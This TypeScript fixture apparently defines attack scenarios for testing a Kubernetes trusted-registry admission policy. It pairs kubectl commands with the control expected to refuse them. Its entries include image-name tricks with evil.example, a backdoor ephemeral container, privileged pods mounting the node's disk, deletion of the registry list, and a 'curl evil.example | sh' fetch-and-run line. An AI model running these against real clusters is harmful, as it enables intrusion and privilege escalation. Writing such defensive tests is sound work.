import type { Rights } from "./attackers.ts";

/** What stops a way in, in the words of docs/attacks.md. */
export const stops = {
  policy: "refused by the policy, which names the image",
  template: "let in with a warning; the pod that the controller makes is refused by the policy",
  guard: "refused by the guard",
  RBAC: "refused by RBAC",
} as const;

export interface Way {
  readonly what: string;
  readonly stop: keyof typeof stops;
  /** Of kubectl, in the attacker's namespace. */
  readonly args: string[];
  readonly stdin?: object;
  /** Which image the refusal must name. */
  readonly image?: string;
}

/** An attack as docs/attacks.md tells it. */
export interface Story {
  readonly title: string;
  readonly rights: Rights;
  /** What was asked for and approved, for this story alone. */
  readonly registry: string;
  /** What runs before the attack. */
  readonly running: readonly object[];
  readonly ways: readonly Way[];
  readonly open: { readonly what: string; readonly args: string[]; readonly stdin?: object };
}

const digest = `sha256:${"0123456789abcdef".repeat(4)}`;

function pod(name: string, spec: object, image: string) {
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name },
    spec: { containers: [{ name: "main", image }], ...spec },
  };
}

function run(name: string, image: string): string[] {
  return ["run", name, `--image=${image}`, "--restart=Never"];
}

const fromManifest = ["create", "-f", "-"];

const pipeline: Story = {
  title: "Initial access: a stolen deployment token pushes a poisoned image through the pipeline",
  rights: {
    namespace: "shop",
    account: "ci-deployer",
    rules: [
      { apiGroups: ["apps"], resources: ["deployments"], verbs: ["get", "list", "create", "update", "patch"] },
      { apiGroups: [""], resources: ["pods"], verbs: ["get", "list"] },
    ],
  },
  registry: "ghcr.io/acme-pipeline",
  running: [
    {
      apiVersion: "apps/v1",
      kind: "Deployment",
      metadata: { name: "shop" },
      spec: {
        selector: { matchLabels: { app: "shop" } },
        template: {
          metadata: { labels: { app: "shop" } },
          spec: { containers: [{ name: "shop", image: "ghcr.io/acme-pipeline/shop:1" }] },
        },
      },
    },
  ],
  ways: [
    setImage("another registry, by kubectl set image", "evil.example/shop:2"),
    setImage("a look-alike host, ghcr.io.evil.example", "ghcr.io.evil.example/acme-pipeline/shop:2"),
    setImage("the approved name as a path on another registry", "evil.example/ghcr.io/acme-pipeline/shop:2"),
    setImage("the digest of a good image, on another registry", `evil.example/shop@${digest}`),
    {
      what: "a migration step slipped in before the good container, by a patch",
      stop: "template",
      args: [
        "patch",
        "deployment",
        "shop",
        "-p",
        patchOf({
          initContainers: [{ name: "migrate", image: "evil.example/migrate" }],
          containers: [{ name: "shop", image: "ghcr.io/acme-pipeline/shop:1" }],
        }),
      ],
      image: "evil.example/migrate",
    },
    { what: "a pod of its own, past the Deployment", stop: "RBAC", args: run("own", "evil.example/shop:2") },
    { what: "a Job of its own", stop: "RBAC", args: ["create", "job", "own", "--image=evil.example/shop:2"] },
    {
      what: "its own registry added to the list",
      stop: "RBAC",
      args: [
        "patch",
        "configmap",
        "trusted-registries",
        "-n",
        "trusted-registries",
        "-p",
        '{"data":{"evil.example":"*"}}',
      ],
    },
  ],
  open: {
    what: "Push the poisoned image to the approved registry, under the name the Deployment already uses",
    args: ["set", "image", "deployment/shop", "*=ghcr.io/acme-pipeline/shop:2"],
  },
};

function setImage(what: string, image: string): Way {
  return { what, stop: "template", args: ["set", "image", "deployment/shop", `shop=${image}`], image };
}

function patchOf(spec: object): string {
  return JSON.stringify({ spec: { template: { spec } } });
}

const developer: Story = {
  title: "Execution: a developer's account runs an image that calls home",
  rights: {
    namespace: "team",
    account: "developer",
    // What `edit` is made of. `edit` itself is put together by a controller.
    roles: ["system:aggregate-to-edit", "system:aggregate-to-view"],
  },
  registry: "ghcr.io/acme-run",
  running: [pod("api", {}, "ghcr.io/acme-run/api:1")],
  ways: [
    refused("an image from a registry nobody vetted", "one", "evil.example/listener"),
    refused("a short name, which is Docker Hub", "two", "evilcorp/listener"),
    refused("an approved-looking prefix", "three", "ghcr.io/acme-run-evil/listener"),
    refused("the same in upper case", "four", "GHCR.IO/acme-run-evil/listener"),
    refused("the approved host with a port, which is another registry", "five", "ghcr.io:8443/acme-run/api"),
    refused("the approved name as a user of another host", "six", "ghcr.io/acme-run@evil.example/listener"),
    refused("a path that climbs out of the approved one", "seven", "ghcr.io/acme-run/../evil/listener"),
    {
      what: "an image volume beside a good container",
      stop: "policy",
      args: fromManifest,
      stdin: pod(
        "eight",
        { volumes: [{ name: "v", image: { reference: "evil.example/files" } }] },
        "ghcr.io/acme-run/api:1",
      ),
      image: "evil.example/files",
    },
    {
      what: "another image for a pod that runs already",
      stop: "policy",
      args: ["set", "image", "pod/api", "*=evil.example/listener"],
      image: "evil.example/listener",
    },
    {
      what: "a copy of that pod with another image, by kubectl debug",
      stop: "policy",
      args: ["debug", "api", "--copy-to=nine", "--set-image=*=evil.example/listener"],
      image: "evil.example/listener",
    },
    {
      what: "a pod in the exempt namespace",
      stop: "RBAC",
      args: [...run("ten", "evil.example/x"), "-n", "kube-system"],
    },
  ],
  open: {
    what: "Run an approved image, and have it download the listener when it starts",
    args: [...run("open", "ghcr.io/acme-run/api:1"), "--command", "--", "sh", "-c", "curl evil.example | sh"],
  },
};

/** From a manifest, because `kubectl run` reads the image too. */
function refused(what: string, name: string, image: string): Way {
  return { what, stop: "policy", args: fromManifest, stdin: pod(name, {}, image), image };
}

const debugPatch = (image: string) =>
  JSON.stringify({ spec: { ephemeralContainers: [{ name: "backdoor", image, targetContainerName: "main" }] } });

const backdoor: Story = {
  title: "Persistence: a compromised workload slips a backdoor container into another pod",
  rights: {
    namespace: "web",
    account: "web-helper",
    rules: [
      { apiGroups: [""], resources: ["pods"], verbs: ["get", "list"] },
      { apiGroups: [""], resources: ["pods/ephemeralcontainers"], verbs: ["get", "patch", "update"] },
    ],
  },
  registry: "ghcr.io/acme-web",
  running: [pod("web", {}, "ghcr.io/acme-web/web:1")],
  ways: [
    {
      what: "an ephemeral container, by kubectl debug",
      stop: "policy",
      args: ["debug", "web", "--image=evil.example/shell", "--target=main"],
      image: "evil.example/shell",
    },
    {
      what: "the same by a patch of the subresource",
      stop: "policy",
      args: ["patch", "pod", "web", "--subresource=ephemeralcontainers", "-p", debugPatch("evil.example/shell")],
      image: "evil.example/shell",
    },
    {
      what: "the same by server-side apply",
      stop: "policy",
      args: ["apply", "--server-side", "--subresource=ephemeralcontainers", "-f", "-"],
      stdin: {
        ...pod("web", {}, "ghcr.io/acme-web/web:1"),
        spec: JSON.parse(debugPatch("evil.example/shell")).spec as object,
      },
      image: "evil.example/shell",
    },
    {
      what: "the approved path on Docker Hub",
      stop: "policy",
      args: ["debug", "web", "--image=acme-web/web:1"],
      image: "acme-web/web:1",
    },
    {
      what: "a sidecar by the pod itself",
      stop: "RBAC",
      args: ["patch", "pod", "web", "-p", '{"spec":{"containers":[{"name":"main","image":"evil.example/shell"}]}}'],
    },
    {
      what: "a pod of its own that mounts the token",
      stop: "RBAC",
      args: run("own", "evil.example/shell"),
    },
  ],
  open: {
    what: "Slip in an approved image that has a shell: whoever may patch pods/ephemeralcontainers may read what the pod reads",
    args: ["debug", "web", "--image=ghcr.io/acme-web/tools:1", "--target=main"],
  },
};

const privileged = { securityContext: { privileged: true } };
const hostDisk = { volumes: [{ name: "node", hostPath: { path: "/" } }] };

const breakout: Story = {
  title: "Privilege escalation: an image escapes to the node",
  rights: {
    namespace: "build",
    account: "node-operator",
    clusterRules: [
      { apiGroups: [""], resources: ["pods"], verbs: ["get", "create"] },
      { apiGroups: [""], resources: ["nodes"], verbs: ["get"] },
      { apiGroups: [""], resources: ["configmaps"], verbs: ["get", "patch", "delete"] },
      {
        apiGroups: ["admissionregistration.k8s.io"],
        resources: ["validatingadmissionpolicybindings"],
        verbs: ["get", "patch"],
      },
    ],
  },
  registry: "ghcr.io/acme-build",
  running: [],
  ways: [
    {
      what: "a privileged pod with the node's disk",
      stop: "policy",
      args: fromManifest,
      stdin: pod(
        "one",
        { ...hostDisk, containers: [{ name: "main", image: "evil.example/escape", ...privileged }] },
        "",
      ),
      image: "evil.example/escape",
    },
    {
      what: "a privileged init container before a good one",
      stop: "policy",
      args: fromManifest,
      stdin: pod(
        "two",
        { ...hostDisk, initContainers: [{ name: "init", image: "evil.example/escape", ...privileged }] },
        "ghcr.io/acme-build/agent:1",
      ),
      image: "evil.example/escape",
    },
    {
      what: "a debugging pod on the node",
      stop: "policy",
      args: ["debug", "node/attack-node", "--image=evil.example/escape", "--profile=sysadmin"],
      image: "evil.example/escape",
    },
    refused("an image that is on the node already, by localhost/", "three", "localhost/escape"),
    refused("an address instead of a name", "four", "203.0.113.7:5000/acme-build/agent"),
    {
      what: "an approved image in the portal's own namespace",
      stop: "guard",
      args: [...run("five", "ghcr.io/acme-build/agent:1"), "-n", "trusted-registries"],
    },
    {
      what: "another registry on the list, with every right to ConfigMaps",
      stop: "guard",
      args: [
        "patch",
        "configmap",
        "trusted-registries",
        "-n",
        "trusted-registries",
        "-p",
        '{"data":{"evil.example":"*"}}',
      ],
    },
    {
      what: "the list deleted",
      stop: "guard",
      args: ["delete", "configmap", "trusted-registries", "-n", "trusted-registries"],
    },
    {
      what: "the guard deleted",
      stop: "RBAC",
      args: ["delete", "validatingadmissionpolicybinding", "trusted-registries-guard"],
    },
  ],
  open: {
    what: "Run a privileged container from an approved registry, or any at all in an exempt namespace: both are Pod Security's to refuse",
    args: fromManifest,
    stdin: pod(
      "open",
      { ...hostDisk, containers: [{ name: "main", image: "ghcr.io/acme-build/agent:1", ...privileged }] },
      "",
    ),
  },
};

export const stories = { pipeline, developer, backdoor, breakout };
